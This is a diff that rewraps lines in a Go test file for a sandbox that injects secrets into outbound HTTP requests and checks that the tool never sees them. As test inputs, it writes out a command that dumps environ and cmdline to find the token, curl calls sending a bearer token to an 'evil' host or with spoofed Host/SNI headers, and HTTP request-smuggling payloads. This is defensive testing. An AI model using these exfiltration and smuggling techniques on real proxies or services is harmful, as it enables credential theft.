@@ -29,7 +29,8 @@ type wanted struct {
 func (s *wanted) add(r *http.Request) {
 	s.mu.Lock()
 	defer s.mu.Unlock()
-	s.all = append(s.all, fmt.Sprintf("%s %s %s%s auth=%q key=%q", r.Proto, r.Method, r.Host, r.RequestURI,
+	s.all = append(s.all, fmt.Sprintf("%s %s %s%s auth=%q "+
+		"key=%q", r.Proto, r.Method, r.Host, r.RequestURI,
 		r.Header.Get("Authorization"), r.Header.Get("X-Key")))
 }
 
@@ -39,7 +40,8 @@ func (s *wanted) list() []string {
 	return append([]string(nil), s.all...)
 }
 
-// secretive is a world in which api, at port 8443, wants a token, and tells what it was sent in many ways.
+// secretive is a world in which api, at port 8443, wants a token, and tells what it was sent in
+// many ways.
 func secretive(t testing.TB) (*world, *wanted) {
 	w := newWorld(t)
 	asked := &wanted{}
@@ -59,7 +61,8 @@ func secretive(t testing.TB) (*world, *wanted) {
 			fmt.Fprintf(rw, "%c", c)
 			rw.(http.Flusher).Flush()
 		}
-		fmt.Fprintf(rw, "\nbase64 %s\n", base64.StdEncoding.EncodeToString([]byte("{\"auth\":\""+auth+"\"}")))
+		fmt.Fprintf(rw, "\nbase64 %s\n",
+			base64.StdEncoding.EncodeToString([]byte("{\"auth\":\""+auth+"\"}")))
 		rw.Header().Set("X-Trailer", auth)
 	})
 	mux.HandleFunc("/early", func(rw http.ResponseWriter, r *http.Request) {
@@ -68,7 +71,8 @@ func secretive(t testing.TB) (*world, *wanted) {
 		rw.Header().Del("Link")
 		fmt.Fprintln(rw, "late")
 	})
-	mux.HandleFunc("/gzip", func(rw http.ResponseWriter, r *http.Request) { // whatever was asked for
+	mux.HandleFunc("/gzip", func(rw http.ResponseWriter,
+		r *http.Request) { // whatever was asked for
 		rw.Header().Set("Content-Encoding", "gzip")
 		z := gzip.NewWriter(rw)
 		fmt.Fprintf(z, "packed %s\n", r.Header.Get("Authorization"))
@@ -82,7 +86,8 @@ func secretive(t testing.TB) (*world, *wanted) {
 		http.Redirect(rw, r, "https://"+evil+":8443/caught", http.StatusTemporaryRedirect)
 	})
 	mux.HandleFunc("/same", func(rw http.ResponseWriter, r *http.Request) { // the query goes along
-		http.Redirect(rw, r, "https://"+api+":8443/there?"+r.URL.RawQuery, http.StatusTemporaryRedirect)
+		http.Redirect(rw, r, "https://"+api+":8443/there?"+r.URL.RawQuery,
+			http.StatusTemporaryRedirect)
 	})
 	mux.HandleFunc("/events", func(rw http.ResponseWriter, r *http.Request) {
 		rw.Header().Set("Content-Type", "text/event-stream")
@@ -98,7 +103,8 @@ func secretive(t testing.TB) (*world, *wanted) {
 		if name == evil {
 			addr = testnet.Other
 		}
-		server := &http.Server{Handler: mux, TLSConfig: w.CA.Server(name), ErrorLog: log.New(io.Discard, "", 0)}
+		server := &http.Server{Handler: mux, TLSConfig: w.CA.Server(name),
+			ErrorLog: log.New(io.Discard, "", 0)}
 		go server.ServeTLS(w.Listen(addr+":8443"), "", "")
 		t.Cleanup(func() { server.Close() })
 	}
@@ -113,7 +119,9 @@ func websocketEcho(rw http.ResponseWriter, r *http.Request) {
 		return
 	}
 	defer conn.Close()
-	fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: %s\r\nConnection: Upgrade\r\n\r\n", r.Header.Get("Upgrade"))
+	fmt.Fprintf(conn,
+		"HTTP/1.1 101 Switching Protocols\r\nUpgrade: %s\r\nConnection: Upgrade\r\n\r\n",
+		r.Header.Get("Upgrade"))
 	auth := r.Header.Get("Authorization")
 	conn.Write(append([]byte{0x81, byte(len(auth))}, auth...))
 	line, _ := rd.ReadString('\n')
@@ -130,7 +138,8 @@ secrets: [{name: TOKEN, hosts: ["` + api + `:8443"], ` + place + `}]
 func (w *world) policy(text string) []string {
 	w.t.Helper()
 	file := filepath.Join(w.t.TempDir(), "policy.yaml")
-	if err := os.WriteFile(file, []byte("version: 1\nextends: standard\n"+text), 0o644); err != nil {
+	if err := os.WriteFile(file, []byte("version: 1\nextends: standard\n"+text),
+		0o644); err != nil {
 		w.t.Fatal(err)
 	}
 	return []string{"--policy", file}
@@ -160,18 +169,21 @@ func TestTheToolNeverHasTheSecretAndTheHostDoes(t *testing.T) {
 	w, asked := secretive(t)
 	for _, version := range []string{"--http1.1", "--http2"} {
 		before := len(asked.list())
-		r := w.use(w.bound(bearer), "sh", "-c", `curl -sS -m 20 `+version+` -d hello -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/x; echo "$TOKEN"; env; cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'`)
+		r := w.use(w.bound(bearer), "sh", "-c",
+			`curl -sS -m 20 `+version+` -d hello -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/x; echo "$TOKEN"; env; cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'`)
 		if !strings.Contains(r.stdout, "5 bytes") || !strings.Contains(r.stdout, "mcpbox_TOKEN_") {
 			t.Fatalf("%s%s", r.stdout, r.stderr)
 		}
 		got := asked.list()[before:]
-		if len(got) != 1 || !strings.Contains(got[0], `POST `+api+`:8443/x auth="Bearer `+token+`"`) {
+		if len(got) != 1 || !strings.Contains(got[0],
+			`POST `+api+`:8443/x auth="Bearer `+token+`"`) {
 			t.Errorf("the host was asked %q", got)
 		}
 		if len(r.result.Events) > 0 {
 			t.Errorf("event: %s", r.result.Events[0].Summary())
 		}
-		if n := r.result.Network; len(n) != 1 || n[0].Host != api || n[0].Port != 8443 || n[0].Sent == 0 || n[0].Received == 0 {
+		if n := r.result.Network; len(n) != 1 || n[0].Host != api || n[0].Port != 8443 ||
+			n[0].Sent == 0 || n[0].Received == 0 {
 			t.Errorf("network %+v", n)
 		}
 	}
@@ -181,14 +193,19 @@ func TestASecretGoesWhereThePolicySays(t *testing.T) {
 	w, asked := secretive(t)
 	escaped := "ghp_Tr0ub4dor%263%2F%3D%2B%3Csecret%3E"
 	for place, c := range map[string]struct{ command, want string }{
-		`header: X-Key`:           {`curl -sS -m 20 -H "X-Key: $TOKEN" https://` + api + `:8443/`, `key="` + token + `"`},
-		`header: x-key`:           {`curl -sS -m 20 --http2 -H "X-Key: a $TOKEN b" https://` + api + `:8443/`, `key="a ` + token + ` b"`},
-		`basic: true`:             {`curl -sS -m 20 -u "me:$TOKEN" https://` + api + `:8443/`, `auth="Basic ` + base64.StdEncoding.EncodeToString([]byte("me:"+token)) + `"`},
-		`query: key, basic: true`: {`curl -sS -m 20 "https://` + api + `:8443/?a=1&key=$TOKEN&b"`, `/?a=1&key=` + escaped + `&b`},
+		`header: X-Key`: {`curl -sS -m 20 -H "X-Key: $TOKEN" https://` + api + `:8443/`,
+			`key="` + token + `"`},
+		`header: x-key`: {`curl -sS -m 20 --http2 -H "X-Key: a $TOKEN b" https://` + api +
+			`:8443/`, `key="a ` + token + ` b"`},
+		`basic: true`: {`curl -sS -m 20 -u "me:$TOKEN" https://` + api + `:8443/`,
+			`auth="Basic ` + base64.StdEncoding.EncodeToString([]byte("me:"+token)) + `"`},
+		`query: key, basic: true`: {`curl -sS -m 20 "https://` + api + `:8443/?a=1&key=$TOKEN&b"`,
+			`/?a=1&key=` + escaped + `&b`},
 	} {
 		before := len(asked.list())
 		r := w.use(w.bound(place), "sh", "-c", c.command)
-		if got := strings.Join(asked.list()[before:], "\n"); !strings.Contains(got, c.want) || len(r.result.Events) > 0 {
+		if got := strings.Join(asked.list()[before:], "\n"); !strings.Contains(got, c.want) ||
+			len(r.result.Events) > 0 {
 			t.Errorf("%s: the host was asked %s\n%s%s", place, got, r.stdout, r.stderr)
 		}
 	}
@@ -197,24 +214,29 @@ func TestASecretGoesWhereThePolicySays(t *testing.T) {
 func TestAnEchoIsMasked(t *testing.T) {
 	w, _ := secretive(t)
 	for _, version := range []string{"--http1.1", "--http2"} {
-		for path, want := range map[string]string{"/echo": "plain " + masked, "/early": "</Bearer mcpbox_TOKEN_", "/gzip": "packed " + masked} {
-			r := w.use(w.bound(bearer), "sh", "-c", `curl -sS -m 20 -i --raw `+version+` -H "Authorization: Bearer $TOKEN" https://`+api+`:8443`+path)
+		for path, want := range map[string]string{"/echo": "plain " + masked,
+			"/early": "</Bearer mcpbox_TOKEN_", "/gzip": "packed " + masked} {
+			r := w.use(w.bound(bearer), "sh", "-c",
+				`curl -sS -m 20 -i --raw `+version+` -H "Authorization: Bearer $TOKEN" https://`+api+`:8443`+path)
 			if !strings.Contains(r.stdout, want) {
 				t.Errorf("%s %s: %s%s", version, path, r.stdout, r.stderr)
 			}
 			if strings.Contains(r.stdout, base64.StdEncoding.EncodeToString([]byte(token))[4:20]) {
 				t.Errorf("%s %s: in base64: %s", version, path, r.stdout)
 			}
-			if e := r.event("egress:echo"); e == nil || e.Type != monitor.SuspiciousBehavior || e.Network.Name != api {
+			if e := r.event("egress:echo"); e == nil || e.Type != monitor.SuspiciousBehavior ||
+				e.Network.Name != api {
 				t.Errorf("%s %s: event %+v", version, path, e)
 			}
 		}
 	}
-	r := w.use(w.bound(bearer), "sh", "-c", `curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/br`)
+	r := w.use(w.bound(bearer), "sh", "-c",
+		`curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/br`)
 	if strings.Contains(r.stdout, "unreadable") || r.event("egress:http") == nil {
 		t.Errorf("a compressed echo: %s%s", r.stdout, r.stderr)
 	}
-	r = w.use(w.bound("query: key"), "sh", "-c", `curl -sS -m 20 "https://`+api+`:8443/echo?key=$TOKEN"`)
+	r = w.use(w.bound("query: key"), "sh", "-c",
+		`curl -sS -m 20 "https://`+api+`:8443/echo?key=$TOKEN"`)
 	if strings.Contains(r.stdout, "Tr0ub4dor") || r.event("egress:echo") == nil {
 		t.Errorf("in a URL: %s%s", r.stdout, r.stderr)
 	}
@@ -223,7 +245,8 @@ func TestAnEchoIsMasked(t *testing.T) {
 // A redirect that has the secret in its URL leads to the same place, with the placeholder.
 func TestARedirectWithTheSecretWorks(t *testing.T) {
 	w, asked := secretive(t)
-	r := w.use(w.bound("query: key"), "sh", "-c", `curl -sS -m 20 -L "https://`+api+`:8443/same?key=$TOKEN"`)
+	r := w.use(w.bound("query: key"), "sh", "-c",
+		`curl -sS -m 20 -L "https://`+api+`:8443/same?key=$TOKEN"`)
 	got := strings.Join(asked.list(), "\n")
 	if !strings.Contains(got, "/there?key=ghp_Tr0ub4dor%26") || !strings.Contains(r.stdout, "welcome") {
 		t.Errorf("%s%s\n%s", r.stdout, r.stderr, got)
@@ -233,22 +256,31 @@ func TestARedirectWithTheSecretWorks(t *testing.T) {
 func TestThePlaceholderIsWorthNothingElsewhere(t *testing.T) {
 	w, asked := secretive(t)
 	for what, c := range map[string]struct{ command, rule string }{
-		"another host":       {`curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://` + evil + `:8443/`, ""},
-		"another header":     {`curl -sS -m 20 -H "X-Key: $TOKEN" https://` + api + `:8443/`, "egress:secret"},
-		"the URL":            {`curl -sS -m 20 "https://` + api + `:8443/?key=$TOKEN"`, "egress:secret"},
-		"the body":           {`curl -sS -m 20 -d "$TOKEN" https://` + api + `:8443/`, ""},
-		"a redirect":         {`curl -sS -m 20 -L --location-trusted -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/away`, ""},
-		"another name's SNI": {`curl -sS -m 20 --connect-to ` + evil + `:8443:` + api + `:8443 -H "Authorization: Bearer $TOKEN" https://` + evil + `:8443/`, "egress:sni"},
-		"Host is not SNI":    {`curl -sS -m 20 -H "Host: ` + evil + `" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
-		"Host is not SNI, 2": {`curl -sS -m 20 --http2 -H "Host: ` + evil + `:8443" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
-		"another port":       {`curl -sS -m 20 -H "Host: ` + api + `:443" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
+		"another host": {`curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://` + evil +
+			`:8443/`, ""},
+		"another header": {`curl -sS -m 20 -H "X-Key: $TOKEN" https://` + api + `:8443/`,
+			"egress:secret"},
+		"the URL": {`curl -sS -m 20 "https://` + api + `:8443/?key=$TOKEN"`,
+			"egress:secret"},
+		"the body":   {`curl -sS -m 20 -d "$TOKEN" https://` + api + `:8443/`, ""},
+		"a redirect": {`curl -sS -m 20 -L --location-trusted -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/away`, ""},
+		"another name's SNI": {`curl -sS -m 20 --connect-to ` + evil + `:8443:` + api +
+			`:8443 -H "Authorization: Bearer $TOKEN" https://` + evil + `:8443/`, "egress:sni"},
+		"Host is not SNI": {`curl -sS -m 20 -H "Host: ` + evil +
+			`" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
+		"Host is not SNI, 2": {`curl -sS -m 20 --http2 -H "Host: ` + evil +
+			`:8443" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
+		"another port": {`curl -sS -m 20 -H "Host: ` + api +
+			`:443" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
 	} {
 		// Inside, the world's authority is trusted too: for hosts whose requests are not read.
 		before := len(asked.list())
-		r := w.use(append(w.bound(bearer), "--mount", w.dir+":/data"), "sh", "-c", `cat /data/ca.pem /.ca-certificates.crt > /tmp/ca.pem; export CURL_CA_BUNDLE=/tmp/ca.pem; `+c.command)
+		r := w.use(append(w.bound(bearer), "--mount", w.dir+":/data"), "sh", "-c",
+			`cat /data/ca.pem /.ca-certificates.crt > /tmp/ca.pem; export CURL_CA_BUNDLE=/tmp/ca.pem; `+c.command)
 		got := asked.list()[before:]
 		for _, line := range got {
-			if strings.Contains(line, "Tr0ub4dor") && what != "a redirect" || strings.Contains(line, evil) && strings.Contains(line, "Tr0ub4dor") {
+			if strings.Contains(line, "Tr0ub4dor") && what != "a redirect" || strings.Contains(line,
+				evil) && strings.Contains(line, "Tr0ub4dor") {
 				t.Errorf("%s: the secret went there: %s", what, line)
 			}
 		}
@@ -284,19 +316,31 @@ func TestRequestsAreNotSmuggled(t *testing.T) {
 	host := `Host: ` + api + `:8443\r\n`
 	hidden := `GET /hidden HTTP/1.1\r\nHost: ` + evil + `\r\nAuthorization: Bearer TOKEN\r\n\r\n`
 	for what, ask := range map[string]string{
-		"two lengths":                    `POST / HTTP/1.1\r\n` + host + `Content-Length: 0\r\nContent-Length: 90\r\n\r\n` + hidden,
-		"length and chunks":              `POST / HTTP/1.1\r\n` + host + `Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + hidden,
-		"an unknown encoding":            `POST / HTTP/1.1\r\n` + host + `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n` + hidden,
-		"chunked twice":                  `POST / HTTP/1.1\r\n` + host + `Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n` + hidden,
-		"a folded header":                `POST / HTTP/1.1\r\n` + host + `X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n` + hidden,
-		"a space before colon":           `POST / HTTP/1.1\r\n` + host + `Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n` + hidden,
-		"two hosts":                      `GET / HTTP/1.1\r\n` + host + `Host: ` + evil + `\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
-		"an absolute target":             `GET https://` + evil + `/ HTTP/1.1\r\n` + host + `Authorization: Bearer TOKEN\r\n\r\n`,
-		"a line feed in a value":         `GET / HTTP/1.1\r\n` + host + `X: a\nHost: ` + evil + `\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
-		"the header is the connection's": `GET / HTTP/1.1\r\n` + host + `Connection: close, Host\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
-		"CONNECT":                        `CONNECT ` + evil + `:8443 HTTP/1.1\r\n` + `Host: ` + evil + `:8443\r\nAuthorization: Bearer TOKEN\r\n\r\n` + hidden,
-		"CONNECT to the host":            `CONNECT ` + api + `:8443 HTTP/1.1\r\n` + host + `\r\n` + hidden,
-		"HTTP/2 in the clear":            `GET / HTTP/1.1\r\n` + host + `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n` + hidden,
+		"two lengths": `POST / HTTP/1.1\r\n` + host +
+			`Content-Length: 0\r\nContent-Length: 90\r\n\r\n` + hidden,
+		"length and chunks": `POST / HTTP/1.1\r\n` + host +
+			`Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + hidden,
+		"an unknown encoding": `POST / HTTP/1.1\r\n` + host +
+			`Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n` + hidden,
+		"chunked twice": `POST / HTTP/1.1\r\n` + host +
+			`Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n` + hidden,
+		"a folded header": `POST / HTTP/1.1\r\n` + host +
+			`X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n` + hidden,
+		"a space before colon": `POST / HTTP/1.1\r\n` + host +
+			`Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n` + hidden,
+		"two hosts": `GET / HTTP/1.1\r\n` + host + `Host: ` + evil +
+			`\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
+		"an absolute target": `GET https://` + evil + `/ HTTP/1.1\r\n` + host +
+			`Authorization: Bearer TOKEN\r\n\r\n`,
+		"a line feed in a value": `GET / HTTP/1.1\r\n` + host + `X: a\nHost: ` + evil +
+			`\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
+		"the header is the connection's": `GET / HTTP/1.1\r\n` + host +
+			`Connection: close, Host\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
+		"CONNECT": `CONNECT ` + evil + `:8443 HTTP/1.1\r\n` + `Host: ` +
+			evil + `:8443\r\nAuthorization: Bearer TOKEN\r\n\r\n` + hidden,
+		"CONNECT to the host": `CONNECT ` + api + `:8443 HTTP/1.1\r\n` + host + `\r\n` + hidden,
+		"HTTP/2 in the clear": `GET / HTTP/1.1\r\n` + host +
+			`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n` + hidden,
 	} {
 		before := len(asked.list())
 		r := w.use(w.bound(bearer), "python3", "-c", raw, ask)
@@ -313,12 +357,16 @@ func TestRequestsAreNotSmuggled(t *testing.T) {
 
 func TestAWebSocketPassesMasked(t *testing.T) {
 	w, _ := secretive(t)
-	ask := `GET /ws HTTP/1.1\r\nHost: ` + api + `:8443\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer TOKEN\r\n\r\n`
+	ask := `GET /ws HTTP/1.1\r\nHost: ` + api +
+		`:8443\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer TOKEN\r\n\r\n`
 	r := w.use(w.bound(bearer), "python3", "-c", raw, ask, `hello there\n`)
-	if !strings.Contains(r.stdout, "101 Switching") || !strings.Contains(r.stdout, "Bearer "+strings.Repeat("*", len(token))+"echo hello there") || r.event("egress:echo") == nil {
+	if !strings.Contains(r.stdout, "101 Switching") || !strings.Contains(r.stdout,
+		"Bearer "+strings.Repeat("*", len(token))+"echo hello there") ||
+		r.event("egress:echo") == nil {
 		t.Errorf("%s%s", r.stdout, r.stderr)
 	}
-	r = w.use(w.bound(bearer), "python3", "-c", raw, strings.Replace(ask, "Upgrade: websocket", "Upgrade: other", 1), `hello there\n`)
+	r = w.use(w.bound(bearer), "python3", "-c", raw, strings.Replace(ask, "Upgrade: websocket",
+		"Upgrade: other", 1), `hello there\n`)
 	if strings.Contains(r.stdout, "echo hello") {
 		t.Errorf("another protocol: %s%s", r.stdout, r.stderr)
 	}
@@ -326,7 +374,8 @@ func TestAWebSocketPassesMasked(t *testing.T) {
 
 func TestEventsOfAServerComeAtOnce(t *testing.T) {
 	w, _ := secretive(t)
-	r := w.use(w.bound(bearer), "sh", "-c", `curl -sSN -m 20 -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/events`)
+	r := w.use(w.bound(bearer), "sh", "-c",
+		`curl -sSN -m 20 -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/events`)
 	if strings.Count(r.stdout, "data: ") != 3 || len(r.result.Events) > 0 {
 		t.Errorf("%s%s", r.stdout, r.stderr)
 	}
@@ -339,16 +388,20 @@ func TestMethodsAreHeldTo(t *testing.T) {
 	for _, c := range []struct{ command, want, rule string }{
 		{`curl -sS -m 20 https://` + api + `:8443/`, "welcome", ""},
 		{`curl -sS -m 20 --http1.1 https://` + api + `:8443/`, "welcome", ""},
-		{`curl -sS -m 20 -d x https://` + api + `:8443/`, "does not allow this method", "egress:method"},
-		{`curl -sS -m 20 -X DELETE https://` + api + `:8443/`, "does not allow this method", "egress:method"},
+		{`curl -sS -m 20 -d x https://` + api + `:8443/`, "does not allow this method",
+			"egress:method"},
+		{`curl -sS -m 20 -X DELETE https://` + api + `:8443/`, "does not allow this method",
+			"egress:method"},
 		{`curl -sS -m 20 http://` + api + `/`, "this is api", ""},
 		{`curl -sS -m 20 -d x http://` + api + `/`, "does not allow this method", "egress:method"},
-		{`curl -sS -m 20 -H 'Host: ` + evil + `' http://` + api + `/`, "another host", "egress:host"},
+		{`curl -sS -m 20 -H 'Host: ` + evil + `' http://` + api + `/`, "another host",
+			"egress:host"},
 	} {
 		before := len(asked.list())
 		w.env = []string{"SSL_CERT_FILE=" + w.CA.File}
 		r := w.run(0, nil, append(append([]string(nil), flags...), "--", "sh", "-c", c.command)...)
-		if !strings.Contains(r.stdout, c.want) || c.rule != "" && r.event(c.rule) == nil || c.rule == "" && len(r.result.Events) > 0 {
+		if !strings.Contains(r.stdout, c.want) || c.rule != "" && r.event(c.rule) == nil ||
+			c.rule == "" && len(r.result.Events) > 0 {
 			t.Errorf("%s: %s%s", c.command, r.stdout, r.stderr)
 		}
 		if got := asked.list()[before:]; c.rule != "" && len(got) > 0 {
@@ -363,12 +416,14 @@ func TestTheRealHostIsVerified(t *testing.T) {
 	w.env = []string{"TOKEN_OUTSIDE=" + token} // the world's authority is not trusted
 	r := w.run(0, nil, append(w.bound(bearer), "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "sh", "-c",
 		`curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/`)...)
-	if !strings.Contains(r.stdout, "502") || len(asked.list()) > 0 || r.event("egress:unreachable") == nil {
+	if !strings.Contains(r.stdout, "502") || len(asked.list()) > 0 ||
+		r.event("egress:unreachable") == nil {
 		t.Errorf("%s%s: %s", r.stdout, r.stderr, asked.list())
 	}
 	w.Names.Set(api, testnet.Private) // nor does one that the name must not lead to
 	w.Listen(testnet.Private + ":8443")
-	r = w.use(w.bound(bearer), "sh", "-c", `curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/`)
+	r = w.use(w.bound(bearer), "sh", "-c",
+		`curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/`)
 	if !strings.Contains(r.stdout, "502") || r.event("egress:private") == nil {
 		t.Errorf("%s%s", r.stdout, r.stderr)
 	}
@@ -382,23 +437,31 @@ func TestASecretIsNotGivenToTheToolByMistake(t *testing.T) {
 		flags []string
 		want  string
 	}{
-		{[]string{"--env", "TOKEN_OUTSIDE", "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "true"}, "TOKEN_OUTSIDE contains the secret TOKEN"},
-		{[]string{"--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "echo", token}, "argument 1 contains the secret TOKEN"},
-		{[]string{"--mount", w.dir + ":/data", "--secret", "TOKEN=file:" + w.dir + "/token", "--", "true"}, "which the tool can read"},
-		{[]string{"--secret", "TOKEN=" + token, "--", "true"}, "that is a value or an unknown source"},
+		{[]string{"--env", "TOKEN_OUTSIDE", "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "true"},
+			"TOKEN_OUTSIDE contains the secret TOKEN"},
+		{[]string{"--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "echo", token},
+			"argument 1 contains the secret TOKEN"},
+		{[]string{"--mount", w.dir + ":/data", "--secret", "TOKEN=file:" + w.dir + "/token", "--",
+			"true"}, "which the tool can read"},
+		{[]string{"--secret", "TOKEN=" + token, "--", "true"},
+			"that is a value or an unknown source"},
 		{[]string{"--secret", "TOKEN=env:NOWHERE", "--", "true"}, "NOWHERE is not set"},
 		{[]string{"--secret", "TOKEN=cmd:exit 3", "--", "true"}, "the command failed"},
 		{[]string{"--secret", "TOKEN=cmd:echo short", "--", "true"}, "fewer than 8"},
-		{[]string{"--secret", "OTHER=env:TOKEN_OUTSIDE", "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "true"}, "has no secret OTHER"},
+		{[]string{"--secret", "OTHER=env:TOKEN_OUTSIDE", "--secret", "TOKEN=env:TOKEN_OUTSIDE",
+			"--", "true"}, "has no secret OTHER"},
 		{[]string{"--", "true"}, "--secret TOKEN=env:VARIABLE"},
 	} {
 		r := w.run(0, nil, append(w.bound(bearer), c.flags...)...)
-		if r.code != 125 || !strings.Contains(r.stderr, c.want) || strings.Contains(r.stderr, "Tr0ub4dor") {
+		if r.code != 125 || !strings.Contains(r.stderr, c.want) || strings.Contains(r.stderr,
+			"Tr0ub4dor") {
 			t.Errorf("%v: %d %s", c.flags, r.code, r.stderr)
 		}
 	}
-	for _, source := range []string{"cmd:printf %s \"$TOKEN_OUTSIDE\"", "file:" + w.dir + "/token"} {
-		if r := w.run(0, nil, append(w.bound(bearer), "--secret", "TOKEN="+source, "--", "true")...); r.code != 0 {
+	for _, source := range []string{"cmd:printf %s " +
+		"\"$TOKEN_OUTSIDE\"", "file:" + w.dir + "/token"} {
+		if r := w.run(0, nil, append(w.bound(bearer), "--secret", "TOKEN="+source, "--",
+			"true")...); r.code != 0 {
 			t.Errorf("%s: %s", source, r.stderr)
 		}
 	}
